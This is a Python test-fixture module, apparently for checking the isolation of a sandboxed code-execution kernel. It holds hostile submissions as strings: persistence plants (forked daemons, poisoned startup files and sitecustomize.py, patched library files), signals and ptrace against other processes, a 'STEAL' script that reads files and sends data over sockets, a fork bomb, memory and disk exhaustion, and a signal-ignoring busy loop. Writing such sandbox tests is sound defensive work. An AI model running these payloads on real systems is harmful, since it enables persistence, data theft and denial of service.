"""Hostile submissions, as cells; each prints what it managed to do.

``VICTIM`` in them is a process: 1, or with :func:`upon_parent` the template.

``PLANTS`` try to leave something behind for the next submission; ``WORLD`` prints what a submission
sees of the world it starts in.
"""

# Programs as text, some with long lines.
# ruff: noqa: E501
from __future__ import annotations

WORLD = r"""
import ctypes, json, os, random, resource, socket, stat, sys, threading
import numpy as np
def listing(place):
    found = []
    for folder, folders, files in os.walk(place):
        for name in sorted(folders + files):
            path = os.path.join(folder, name)
            mode = stat.filemode(os.lstat(path).st_mode)
            found.append([path, mode, sorted(os.listxattr(path, follow_symlinks=False))])
    return sorted(found)
def own(path):
    "Names that differ by chance, belong to this very kernel, or to an environment mounted in /tmp."
    if path.startswith("/tmp/") and os.statvfs(os.path.dirname(path)).f_flag & os.ST_RDONLY:
        return True
    return any(part in path for part in ("/run/lab/kernel/", ".ipython", ".runtime"))
def bindable(port):
    with socket.socket() as s:
        try:
            s.bind(("127.0.0.1", port))
        except OSError as error:
            return str(error)
    return True
status = dict(line.split(":\t", 1) for line in open("/proc/self/status").read().splitlines())
world = {
    "files": [f for p in ("/run/lab", "/tmp", "/dev/shm") for f in listing(p) if not own(f[0])],
    "roots": [[p, os.stat(p).st_mode, os.listxattr(p)] for p in ("/run/lab", "/tmp", "/dev/shm")],
    "processes": sum(n.isdecimal() for n in os.listdir("/proc")),
    "limits": {n: resource.getrlimit(getattr(resource, n)) for n in dir(resource) if n.startswith("RLIMIT_")},
    "nice": os.getpriority(os.PRIO_PROCESS, 0),
    "affinity": sorted(os.sched_getaffinity(0)),
    "scheduler": os.sched_getscheduler(0),
    "ioprio": ctypes.CDLL(None).syscall(252, 1, 0) if os.uname().machine == "x86_64" else 0,
    "status": {n: status[n] for n in ("Umask", "SigBlk", "SigIgn", "CapEff", "Seccomp", "NoNewPrivs")},
    "environment": {n: v for n, v in os.environ.items() if n != "ALPACA_CHALLENGE"},
    "path": sys.path,
    "cwd": os.getcwd(),
    "ports": [bindable(p) for p in (9999, 20000)],
    "random": [random.random(), float(np.random.rand())],
    "numpy": [np.__version__, float(np.sum(np.arange(10)))],
    "builtins": [print.__module__, len.__name__, json.dumps.__module__],
    "queue": ctypes.CDLL(None).mq_open(b"/planted", 0),
    "shared": ctypes.CDLL(None).shmget(0x5EC2E7, 16, 0),
}
print(json.dumps(world))
"""

_PLANTS = {
    "daemon": r"""
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for fd in range(3, 200):
            try: os.close(fd)
            except OSError: pass
        while True:
            try: open("/tmp/daemon-was-here", "a").write("x")
            except OSError: pass
            time.sleep(0.001)
    os._exit(0)
os.wait()
print("planted")
""",
    "files": r"""
import os
for place in (".", os.environ["HOME"], "/tmp", "/dev/shm", os.environ["KERAS_HOME"], "/run/lab"):
    open(f"{place}/planted", "w").write("x")
    os.makedirs(f"{place}/a/b/c", exist_ok=True)
    open(f"{place}/a/b/new\nline", "w").close()
    os.symlink("/proc/1/root", f"{place}/link")
open("sitecustomize.py", "w").write("raise SystemExit")
open("lab_checks.py", "w").write("raise SystemExit")
print("planted")
""",
    "startup files": r"""
import os
home = os.environ["HOME"]
folder = f"{os.environ['IPYTHONDIR']}/profile_default/startup"
os.makedirs(folder, exist_ok=True)
open(f"{folder}/00.py", "w").write("import random; random.random = lambda: 4")
os.makedirs(f"{os.environ['KERAS_HOME']}", exist_ok=True)
open(f"{os.environ['KERAS_HOME']}/keras.json", "w").write('{"floatx": "float16"}')
print("planted")
""",
    "unreadable folders": r"""
import os
os.makedirs("a/b"); open("a/b/c", "w").close(); os.chmod("a/b", 0)
print("planted")
""",
    "deep folders": r"""
import os
os.chdir("/tmp")
for _ in range(3000):
    os.mkdir("d"); os.chdir("d")
print("planted")
""",
    "closed roots": r"""
import os
for place in ("/tmp", "/run/lab", "/dev/shm"):
    try: os.chmod(place, 0); print("closed", place)
    except OSError as e: print(e)
    try: os.setxattr(place, "user.note", b"seen"); print("noted", place)
    except OSError as e: print(e)
print("planted")
""",
    "signals to the warm process": r"""
import os, signal
for s in (signal.SIGSTOP, signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGUSR1, 40, signal.SIGKILL):
    try: os.kill(1, s)
    except OSError as e: print(e)
print("planted")
""",
    "signal to everything": r"""
import os, signal
try: os.kill(-1, signal.SIGKILL)
except OSError as e: print(e)
print("planted")
""",
    "killed kernel": "import os, signal; os.kill(os.getpid(), signal.SIGKILL)",
    "stopped kernel's child": r"""
import os, signal, time
pid = os.fork()
if pid == 0:
    while True: time.sleep(1)
os.kill(pid, signal.SIGSTOP)
print("planted")
""",
    "shared memory": r"""
import ctypes, errno, mmap
from multiprocessing import resource_tracker, shared_memory
block = shared_memory.SharedMemory(name="planted", create=True, size=4096)
resource_tracker.unregister(block._name, "shared_memory")
libc = ctypes.CDLL(None, use_errno=True)
print("shmget", libc.shmget(0x5EC2E7, 4096, 0o1666), errno.errorcode.get(ctypes.get_errno()))
print("planted")
""",
    "message queues": r"""
import ctypes, errno
libc = ctypes.CDLL(None, use_errno=True)
print("mq_open", libc.mq_open(b"/planted", 0o102, 0o666, None), errno.errorcode.get(ctypes.get_errno()))
print("msgget", libc.msgget(0x5EC2E7, 0o1666), errno.errorcode.get(ctypes.get_errno()))
print("semget", libc.semget(0x5EC2E7, 1, 0o1666), errno.errorcode.get(ctypes.get_errno()))
print("planted")
""",
    "priority": r"""
import os
try: os.setpriority(os.PRIO_PROCESS, VICTIM, 19)
except OSError as e: print(e)
print("planted")
""",
    "affinity": r"""
import os
try: os.sched_setaffinity(VICTIM, {0})
except OSError as e: print(e)
print("planted")
""",
    "scheduler": r"""
import os
try: os.sched_setscheduler(VICTIM, os.SCHED_IDLE, os.sched_param(0))
except OSError as e: print(e)
print("planted")
""",
    "io priority": r"""
import ctypes, os
print(ctypes.CDLL(None).syscall(251 if os.uname().machine == "x86_64" else 30, 1, VICTIM, (3 << 13) | 7))
print("planted")
""",
    "limits of the warm process": r"""
import resource
try: resource.prlimit(VICTIM, resource.RLIMIT_NOFILE, (16, 16)); print("lowered")
except OSError as e: print(e)
print("planted")
""",
    "patched modules": r"""
import os, sys, numpy, json
tried = [numpy.__file__, json.__file__, sys.executable, f"{sys.prefix}/bin/python"]
tried += [f"{p}/sitecustomize.py" for p in sys.path if p]
for path in tried:
    try: open(path, "a").write("raise SystemExit"); print("PATCHED", path)
    except OSError as e: print(type(e).__name__)
numpy.sum = numpy.arange = None
print("planted")
""",
    "ports": r"""
import socket
server = socket.create_server(("127.0.0.1", 9999))
for _ in range(50):
    client = socket.create_connection(("127.0.0.1", 9999))
    served, _ = server.accept()
    served.close(); client.recv(1); client.close()
hold = socket.create_server(("127.0.0.1", 20000))
print("planted")
""",
    "memory of the warm process": r"""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def attempt(name, call):
    try: print(name, call())
    except OSError as e: print(name, type(e).__name__)
attempt("mem", lambda: open(f"/proc/{VICTIM}/mem", "r+b"))
attempt("maps", lambda: open(f"/proc/{VICTIM}/maps").read())
attempt("environ", lambda: open(f"/proc/{VICTIM}/environ").read())
attempt("fd", lambda: os.listdir(f"/proc/{VICTIM}/fd"))
attempt("cwd", lambda: os.readlink(f"/proc/{VICTIM}/cwd"))
attempt("oom", lambda: open(f"/proc/{VICTIM}/oom_score_adj", "w").write("-1000"))
for name, result in {
    "ptrace": libc.ptrace(16, VICTIM, 0, 0),
    "vm_writev": libc.process_vm_writev(VICTIM, 0, 0, 0, 0, 0),
    "pidfd_getfd": libc.syscall(438, libc.syscall(434, VICTIM, 0), 3, 0),
}.items():
    print(name, result)
print("planted")
""",
}

PLANTS = {name: f"VICTIM = 1\n{script}" for name, script in _PLANTS.items()}


def upon_parent(name: str) -> str:
    """The attack upon the process that the kernel is a fork of."""
    return f"import os\nVICTIM = os.getppid()\nassert VICTIM != 1\n{_PLANTS[name]}"


STEAL = r"""
import json, os, socket
def attempt(call):
    try:
        return str(call())[:200]
    except Exception as error:
        return f"refused: {type(error).__name__}"
def connect(family, address):
    s = socket.socket(family); s.settimeout(2); s.connect(address); s.sendall(b"stolen"); return "CONNECTED"
got = {path: attempt(lambda: open(path).read()) for path in PATHS}
got |= {f"write {path}": attempt(lambda: open(path, "w").write("x")) for path in WRITES}
got |= {f"list {path}": attempt(lambda: os.listdir(path)) for path in FOLDERS}
got["tcp"] = attempt(lambda: connect(socket.AF_INET, ("127.0.0.1", PORT)))
got["unix"] = attempt(lambda: connect(socket.AF_UNIX, UNIX))
got["abstract"] = attempt(lambda: connect(socket.AF_UNIX, "\0" + ABSTRACT))
got["udp"] = attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("10.0.0.1", 53)))
got["vsock"] = attempt(lambda: socket.socket(40, socket.SOCK_STREAM))
got["packet"] = attempt(lambda: socket.socket(17, socket.SOCK_RAW))
got["environment"] = attempt(lambda: [v for v in os.environ.values() if "canary" in v])
got["processes"] = attempt(lambda: [open(f"/proc/{n}/cmdline").read() for n in os.listdir("/proc") if n.isdecimal()])
print(json.dumps(got))
"""

MEMORY_HOGS = {
    "heap": "x = []\nwhile True: x.append(bytearray(16 << 20))",
    "shared mapping": r"""
import mmap
held = []
while True:
    m = mmap.mmap(-1, 64 << 20)
    for i in range(0, len(m), 4096): m[i] = 1
    held.append(m)
""",
    "many processes": r"""
import os, time
for _ in range(6):
    if os.fork() == 0:
        x = bytearray(200 << 20)
        for i in range(0, len(x), 4096): x[i] = 1
        time.sleep(30)
time.sleep(30)
""",
}

FORK_BOMB = r"""
import os, time
made = 0
try:
    for _ in range(500):
        if os.fork() == 0:
            time.sleep(60); os._exit(0)
        made += 1
except OSError as error:
    print(type(error).__name__)
print(made)
"""

FILL_DISK = r"""
import errno, json
def fill(place, size):
    total = 0
    try:
        for i in range(1000):
            with open(f"{place}/{i}", "wb") as f:
                total += f.write(b"x" * size)
    except OSError as error:
        return [total >> 20, errno.errorcode[error.errno]]
    return [total >> 20, "no end"]
print(json.dumps({
    "one file": fill("/tmp", 32 << 20),
    "/tmp": fill("/tmp", 1 << 20), "/dev/shm": fill("/dev/shm", 1 << 20), ".": fill(".", 1 << 20),
}))
"""

MANY_FILES = "import time\nfor i in range(100_000): open(f'/tmp/{i}', 'w').close()\ntime.sleep(30)"

STUBBORN_LOOP = r"""
import signal
for s in range(1, 65):
    try: signal.signal(s, signal.SIG_IGN)
    except (OSError, ValueError): pass
while True:
    try:
        while True: pass
    except BaseException: pass
"""
